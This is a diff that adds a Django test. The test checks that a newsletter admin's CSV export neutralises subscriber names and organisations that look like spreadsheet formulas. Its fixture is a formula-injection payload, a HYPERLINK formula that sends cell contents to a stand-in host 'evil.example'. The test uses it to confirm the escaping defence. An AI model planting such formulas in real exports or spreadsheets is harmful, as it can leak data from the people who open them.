@@ -218,3 +218,20 @@ def test_a_started_send_cannot_be_cancelled_or_deleted(staff_client, issue):
         staff_client.get(reverse("admin:newsletters_send_delete", args=[send.pk])).status_code
         == 403
     )
+
+
+def test_a_subscriber_named_like_a_formula_exports_as_text(rf, staff_user):
+    import csv
+
+    from django.contrib import admin
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    subscribe(NewsletterFactory(), 1, name=formula, organisation="@SUM(A1:A9)")
+    request = rf.post("/admin/newsletters/subscriber/")
+    request.user = staff_user
+
+    response = admin.site._registry[Subscriber].export_csv(request, Subscriber.objects.all())
+
+    [header, row] = list(csv.reader(response.content.decode().splitlines()))
+    assert header[1:3] == ["Name", "Organisation"]
+    assert row[1:3] == [f"'{formula}", "'@SUM(A1:A9)"]
